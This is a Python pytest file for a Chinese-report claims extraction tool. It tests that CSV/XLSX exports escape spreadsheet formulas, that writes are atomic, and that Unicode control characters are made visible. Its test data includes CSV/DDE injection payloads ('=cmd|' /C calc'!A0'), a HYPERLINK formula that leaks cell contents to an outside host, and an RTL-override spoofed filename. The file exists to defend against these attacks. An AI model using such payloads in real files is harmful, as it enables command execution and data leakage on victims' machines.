"""Every file chanjia writes for people: no spreadsheet cell is a formula (OWASP's rule, read back
from the files), and every ``--out`` is written whole or not at all."""

from __future__ import annotations

import csv
import errno
import json
import os
import re
import resource
import signal
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from chanjia_nlp import extract, store, to_dict
from chanjia_nlp.cli import cli
from chanjia_nlp.crosscheck.export import write_findings
from chanjia_nlp.errors import OutputError
from chanjia_nlp.outputs import FORMULA_STARTS, atomic_file, spreadsheet_text

from .conftest import ROOT

#: Cell texts a spreadsheet would run, or start a formula with.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
    "+1+2 其中新增会员1200名",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]
#: Texts that stay as they are: plain numbers are read as numbers, never as formulas.
KEPT = ["-12.5", "+3", "1e5", "-0.5", "全市共培育省级试点单位25家", "", "'=already quoted"]


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and spreadsheet_text(value) != value


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_quote(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("value", [*KEPT, 25, Decimal("-3"), None, True])
def test_plain_values_are_kept(value):
    assert spreadsheet_text(value) is value


def _finding(n: int, text: str) -> dict:
    return {
        "type": "finding", "finding_id": f"f{n}", "check": "ledger", "verdict": "inconsistent",
        "subject": text, "indicator": "pilot_units", "period": "2022", "message": text, "gap": "-3",
        "ledger": {"file": f"{text}.xlsx", "sheet": text, "row": 3, "column": "F", "cell": "F3", "value": text},
        "evidence": [{"doc_id": "d", "path": f"{text}.txt", "start": 0, "end": 2, "text": text, "role": "contradicts"}],
    }


def _csv_cells(path: Path, encoding: str = "utf-8") -> list[str]:
    with path.open(encoding=encoding, newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


@pytest.mark.slow
def test_findings_csv_and_xlsx_hold_no_formula(tmp_path):
    findings = [_finding(n, text) for n, text in enumerate(HOSTILE)]
    write_findings(findings, tmp_path / "f.csv")
    cells = _csv_cells(tmp_path / "f.csv", "utf-8-sig")
    assert not [c for c in cells if _formula_like(c)]
    for text in HOSTILE:  # every hostile text is there, quoted, not lost
        assert "'" + text in cells
    assert "-3" in cells  # a plain number stays a number
    write_findings(findings, tmp_path / "f.xlsx")
    book = load_workbook(tmp_path / "f.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if _formula_like(c.value)]
    assert {"'" + text for text in HOSTILE if "\r" not in text} <= {c.value for c in cells}


def test_extract_csv_holds_no_formula(tmp_path):
    (tmp_path / "r.txt").write_text("+1+2 其中全市共培育省级试点单位25家。\n=1+1 新增会员1200名。\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    for title in ("=cmd|' /C calc'!A0", "@SUM(1)", "-2+3"):
        result = CliRunner().invoke(cli, ["extract", str(tmp_path / "r.txt"), "--out", str(out), "--title", title])
        assert result.exit_code == 0, result.output
        cells = _csv_cells(out)
        assert "'" + title in cells and not [c for c in cells if _formula_like(c)]
        assert any(c.startswith("'+1+2 其中") for c in cells)  # the sentence column


def test_claims_csv_holds_no_formula(tmp_path):
    db = tmp_path / "c.sqlite"
    text = "=1+1 其中全市共培育省级试点单位25家。\n+cmd 新增高技能人才1200余名。\n@x 全年培训职工3.8万人次。"
    doc = {"type": "document", "doc_id": "d1", "path": "-1+1.txt", "status": "ok", "extractor_version": "t", "text": text}
    records = [to_dict(r, doc_id="d1", path="-1+1.txt") for r in extract(text)]
    assert sum(bool(r.get("claim")) for r in records) >= 2
    with store.open(db, create=True) as st:
        st.write_document(doc, records, st.begin_run(command="test"))
    out = tmp_path / "claims.csv"
    result = CliRunner().invoke(cli, ["claims", "--db", str(db), "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = _csv_cells(out)
    assert "'-1+1.txt" in cells and not [c for c in cells if _formula_like(c)]


def test_atomic_file_keeps_the_old_file_when_writing_fails(tmp_path):
    target = tmp_path / "out.jsonl"
    target.write_text("old\n", encoding="utf-8")
    with pytest.raises(OSError) as caught:  # not the write failing (say, reading a report): it travels on as it is
        with atomic_file(target) as stream:
            stream.write("new, half written")
            raise OSError(errno.EIO, os.strerror(errno.EIO))
    assert not isinstance(caught.value, OutputError)
    assert target.read_text(encoding="utf-8") == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.jsonl"]  # no temporary file left
    with pytest.raises(ValueError):  # any other error: the same, and the error itself travels on
        with atomic_file(target) as stream:
            stream.write("new")
            raise ValueError("a bug")
    assert target.read_text(encoding="utf-8") == "old\n" and len(list(tmp_path.iterdir())) == 1


@pytest.mark.slow
def test_findings_writer_fails_whole(tmp_path):
    target = tmp_path / "f.xlsx"
    write_findings([_finding(0, "a")], target)
    before = target.read_bytes()
    for fmt in ("xlsx", "csv", "jsonl"):
        with pytest.raises(TypeError):  # a broken finding after a good one: the writer fails half-way
            write_findings([_finding(1, "b"), {"verdict": "inconsistent", "evidence": 5, "x": object()}], target, fmt=fmt)
        assert target.read_bytes() == before and len(list(tmp_path.iterdir())) == 1


def _run_limited(args: list[str], cwd: Path, limit: int) -> subprocess.CompletedProcess:
    """``chanjia ARGS`` with files limited to ``limit`` bytes: a write past it fails with EFBIG,
    as a full disk fails with ENOSPC."""

    def limited() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run(
        [sys.executable, "-m", "chanjia_nlp", *args], cwd=cwd, capture_output=True, text=True, timeout=300,
        preexec_fn=limited,
    )


@pytest.fixture(scope="module")
def corpus_jsonl(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("corpus") / "corpus.jsonl"
    assert CliRunner().invoke(cli, ["extract", str(ROOT / "corpus"), "--out", str(out), "-q"]).exit_code == 0
    return out


@pytest.mark.slow
@pytest.mark.parametrize(
    "command, out",
    [
        (["extract", str(ROOT / "corpus"), "-q", "--out"], "records.jsonl"),
        (["extract", str(ROOT / "corpus"), "-q", "--out"], "records.csv"),
        (["check", str(ROOT / "corpus" / "ledger" / "2023年度产改工作台账.xlsx"), "--records", "{jsonl}", "--out"], "f.xlsx"),
        (["check", str(ROOT / "corpus" / "ledger" / "2023年度产改工作台账.xlsx"), "--records", "{jsonl}", "--out"], "f.csv"),
        (["report", "{jsonl}", "--out"], "report.html"),
    ],
)
def test_a_full_disk_leaves_the_old_output_and_says_so_in_one_line(command, out, corpus_jsonl, tmp_path):
    (tmp_path / out).write_text("the previous output\n", encoding="utf-8")
    args = [arg.replace("{jsonl}", str(corpus_jsonl)) for arg in command] + [out]
    done = _run_limited(args, tmp_path, 20_000)
    assert done.returncode != 0
    assert "Traceback" not in done.stderr
    (line,) = [line for line in done.stderr.splitlines() if "cannot write" in line]
    assert out in line and "File too large" in line
    assert (tmp_path / out).read_text(encoding="utf-8") == "the previous output\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [out]


@pytest.mark.slow
def test_claims_out_fails_whole(tmp_path, corpus_jsonl):
    db = tmp_path / "c.sqlite"
    records = [json.loads(line) for line in corpus_jsonl.read_text(encoding="utf-8").splitlines()]
    with store.open(db, create=True) as st:
        run = st.begin_run(command="test")
        docs = [r for r in records if r["type"] == "document"]
        for doc in docs:
            st.write_document(doc, [r for r in records if r["type"] != "document" and r["doc_id"] == doc["doc_id"]], run)
    (tmp_path / "claims.csv").write_text("old\n", encoding="utf-8")
    done = _run_limited(["claims", "--db", str(db), "--out", "claims.csv"], tmp_path, 100_000)
    assert done.returncode != 0 and "Traceback" not in done.stderr and "cannot write claims.csv" in done.stderr
    assert (tmp_path / "claims.csv").read_text(encoding="utf-8") == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("c.sqlite")) == ["claims.csv"]


@pytest.mark.parametrize(
    "text, expected",
    [
        ("\u202egnp.exe.txt", "⟨U+202E⟩gnp.exe.txt"),
        ("a\u200bb\u200c\u200dc\ufeff", "a⟨U+200B⟩b⟨U+200C⟩⟨U+200D⟩c⟨U+FEFF⟩"),
        ("line\nbreak\tand\x1b[31mred", "line⟨U+000A⟩break⟨U+0009⟩and⟨U+001B⟩[31mred"),
        ("\u2066isolate\u2069 \u2028sep\u00ad", "⟨U+2066⟩isolate⟨U+2069⟩ ⟨U+2028⟩sep⟨U+00AD⟩"),
        ("全区新增高技能人才1200余名", "全区新增高技能人才1200余名"),
    ],
)
def test_visible_shows_control_characters(text, expected):
    from chanjia_nlp.outputs import visible

    assert visible(text) == expected


def test_report_page_outside_its_data_holds_no_control_character(tmp_path):
    from chanjia_nlp.outputs import INVISIBLE_CATEGORIES
    import unicodedata

    from chanjia_nlp.report import render_report

    rows = [
        {"type": "document", "doc_id": "a", "path": "\u202egnp.exe.txt", "status": "error", "error": "x\u202ey"},
        {"type": "document", "doc_id": "b", "path": "b\u200b.txt", "status": "ok", "text": "省级试点单位25家"},
        {"type": "quantity", "doc_id": "b", "path": "b\u200b.txt", "start": 6, "end": 9, "text": "25家", "value": "25",
         "claim": True, "indicator": "pilot_units", "subject": "无锡\u202e市", "kind": "count", "unit": "家"},
    ]
    page = render_report(rows, title="审核\u202e报告")
    outside = page.split('<script type="application/json"')[0]
    outside = re.sub(r' data-value="[^"]*"', "", outside)  # exact values the page filters on, never shown
    assert not [c for c in outside if unicodedata.category(c) in INVISIBLE_CATEGORIES - {"Cc"}]
    assert "审核⟨U+202E⟩报告" in outside and "⟨U+202E⟩gnp.exe.txt" in outside and "x⟨U+202E⟩y" in outside
    assert "无锡⟨U+202E⟩市" in outside  # the chart of claims per subject


def test_cli_error_lines_show_control_characters(tmp_path):
    (tmp_path / "\u202egnp.exe.txt").write_bytes(b"")
    (tmp_path / "ok\u200b.txt").write_text("全区新增高技能人才1200余名。", encoding="utf-8")
    result = CliRunner().invoke(cli, ["extract", str(tmp_path), "--out", str(tmp_path / "o.jsonl")])
    assert result.exit_code == 1
    assert "error: ⟨U+202E⟩gnp.exe.txt: the file is empty" in result.output
    assert "\u202e" not in result.output
